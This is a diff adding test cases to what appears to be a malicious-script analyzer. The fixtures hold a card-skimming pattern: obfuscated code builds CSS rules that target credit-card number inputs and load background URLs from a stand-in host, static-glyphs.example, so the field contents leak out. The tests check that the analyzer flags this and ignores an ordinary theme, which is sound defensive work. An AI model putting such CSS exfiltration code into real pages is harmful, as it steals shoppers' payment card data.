@@ -219,3 +219,24 @@ describe('reading one named control of a form is not a sweep', () => {
     expect(v.findings.map((x) => x.message).join('\n')).toMatch(/every form field/)
   })
 })
+
+describe('style text that loads what it builds', () => {
+  const reason = 'names card fields and can send or load something'
+  // the url() and the address are pieces put together away from the write
+  const style = `var head = 'url(', host = '//static-glyphs.example/g/'
+    function rule(sel, key) { return sel + '{background:' + head + host + key + ')}' }
+    var css = []; ['0', '1', '2'].forEach(function (d) { css.push(rule(FIELD + '[data-d="' + d + '"]', d)) })
+    var st = document.createElement('style'); st.textContent = css.join('')
+    document.head.appendChild(st)`
+  it('with card fields named, the file goes to the chamber', () => {
+    const source = `var FIELD = 'input[autocomplete="cc-number"]'; ${style}`
+    expect(analyzeScript(source).triage ?? []).toContain(reason)
+    const sheet = source.replace("st.textContent = css.join('')", 'st.sheet.insertRule(css[0])')
+    expect(sheet).toContain('insertRule')
+    expect(analyzeScript(sheet).triage ?? []).toContain(reason)
+  })
+  it('not a theme that names no card field', () => {
+    const theme = `var FIELD = '.swatch'; ${style}`
+    expect(analyzeScript(theme).triage ?? []).not.toContain(reason)
+  })
+})
